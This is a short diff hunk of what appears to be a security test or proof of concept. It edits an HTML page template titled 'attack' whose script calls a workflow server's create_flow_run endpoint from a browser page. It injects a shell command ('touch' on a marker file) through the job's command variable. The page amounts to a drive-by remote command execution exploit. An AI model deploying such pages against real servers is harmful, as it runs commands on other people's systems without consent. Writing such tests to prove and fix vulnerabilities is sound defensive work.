@@ -23,7 +23,7 @@ WITHIN = 90
 """Seconds that a page has for all that it tries."""
 
 _PAGE = """<!doctype html><title>attack</title><iframe name="sink"></iframe><script>
-const api = %(api)s, deployment = %(deployment)s, run = "/deployments/" + deployment + "/create_flow_run";
+const api = %(api)s, run = "/deployments/" + %(deployment)s + "/create_flow_run";
 const body = JSON.stringify({job_variables: {command: "touch " + %(file)s}});
 const json = {"Content-Type": "application/json"}, plain = {"Content-Type": "text/plain"};
 async function call(path, options) {
